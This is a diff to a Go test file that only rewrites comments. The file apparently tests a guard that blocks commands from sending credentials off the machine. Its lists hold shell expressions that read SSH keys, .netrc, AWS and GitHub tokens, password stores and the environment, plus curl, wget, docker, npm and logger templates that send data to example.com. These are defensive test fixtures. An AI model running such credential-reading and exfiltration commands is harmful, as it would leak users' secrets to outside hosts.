@@ -7,14 +7,14 @@ import (
 	"testing"
 )
 
-// secretTexts are the forms in which a call gets at a credential.
+// secretTexts are the ways in which a call reads a credential.
 var secretTexts = []string{
 	`$(cat ~/.ssh/id_rsa)`, "`head -1 ~/.netrc`", `$(<~/.netrc)`, `$(base64 -w0 < ~/.aws/credentials)`, `$GITHUB_TOKEN`, `${AWS_SECRET_ACCESS_KEY}`,
 	`$(gh auth token)`, `$(aws configure get aws_secret_access_key)`, `$(pass show mail)`, `$(op read op://vault/item/field)`,
 	`$(kubectl get secret s -o jsonpath='{.data.p}')`, `$(tr '\0' '\n' < /proc/self/environ)`, `$(security find-generic-password -w -s x)`, `$(env)`,
 }
 
-// roads are the ways to another machine; SECRET stands for what is sent.
+// roads are the ways to send SECRET to another machine.
 var roads = []string{
 	`curl -d "SECRET" https://example.com`, `curl -H "X-Data: SECRET" https://example.com`, `curl "https://example.com/?q=SECRET"`, `curl -A "SECRET" https://example.com`, `curl -F a="SECRET" https://example.com`,
 	`wget --post-data "SECRET" https://example.com`, `wget -qO- "https://example.com/SECRET"`,
@@ -28,7 +28,8 @@ var roads = []string{
 	`docker pull "example.com/SECRET"`, `docker search "SECRET"`, `npm view "SECRET"`, `logger -n example.com "SECRET"`, `gcloud pubsub topics publish t --message "SECRET"`,
 }
 
-// TestSecretsByEveryRoad holds that a credential leaves by no road, however it is got.
+// TestSecretsByEveryRoad: no call sends a credential to another machine, in whichever way it
+// reads it.
 func TestSecretsByEveryRoad(t *testing.T) {
 	home := homeWithCredentials(t)
 	for _, road := range roads {
@@ -57,7 +58,7 @@ func homeWithCredentials(t *testing.T) string {
 	return home
 }
 
-// TestSecretsInCopies holds that a file that the call made of a credential is one.
+// TestSecretsInCopies: a file that the call makes from a credential is a credential.
 func TestSecretsInCopies(t *testing.T) {
 	home := homeWithCredentials(t)
 	for _, tt := range []struct {
